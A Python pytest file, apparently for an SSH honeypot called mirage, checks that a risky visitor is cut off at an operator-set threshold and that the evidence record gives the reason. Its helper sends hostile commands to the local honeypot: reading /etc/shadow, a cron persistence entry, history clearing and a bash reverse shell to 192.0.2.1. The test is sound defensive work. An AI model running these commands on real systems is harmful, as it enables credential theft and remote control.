"""A visitor whose risk passes what the operator bears is hung up on, and the record says why."""

from __future__ import annotations

import asyncio
from pathlib import Path

import asyncssh
import pytest

from mirage.app.gallery import options_of
from mirage.base.events import LimitReached
from mirage.cli.options import read
from mirage.evidence.api import open_evidence
from tests.e2e.house import PASSWORD, House


@pytest.mark.parametrize(("threshold", "is_cut"), [("40", True), ("0", False)])
def test_who_is_too_risky_is_cut_off_where_the_operator_wants_it(tmp_path: Path, threshold: str, is_cut: bool) -> None:
    house = House(tmp_path / "data", users=("root",), settings={"MIRAGE_ANALYSIS_CUT_OFF": threshold}).start()
    try:
        cut = asyncio.run(_misbehave(house.port))
    finally:
        house.stop()
    assert cut is is_cut
    evidence = open_evidence(options_of(read(None, str(tmp_path / "data"))))
    (session,) = evidence.sessions()
    said = [envelope.event for envelope in evidence.events(kinds=["LimitReached"])]
    evidence.close()
    if is_cut:
        assert [(event.limit, event.allowed) for event in said if isinstance(event, LimitReached)] == [("analysis.cut_off", 40)]
        assert session.reason == "cut off by the operator's directive"
    else:
        assert said == []


async def _misbehave(port: int) -> bool:
    """Whether the connection was ended by the other side, within some seconds of doing what is risky."""
    client = await asyncssh.connect(
        "127.0.0.1", port, username="root", password=PASSWORD, known_hosts=None, client_keys=None, config=None
    )  # fmt: skip
    for line in (
        "cat /etc/shadow",
        "echo '* * * * * root id' > /etc/cron.d/x",
        "history -c",
        "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 &",
    ):
        try:
            await asyncio.wait_for(client.run(line), 8)
        except TimeoutError:
            continue  # what still dials in the background holds the channel
        except asyncssh.Error:
            return True
    try:
        await asyncio.wait_for(client.wait_closed(), 5)
    except TimeoutError:
        client.close()
        return False
    return True
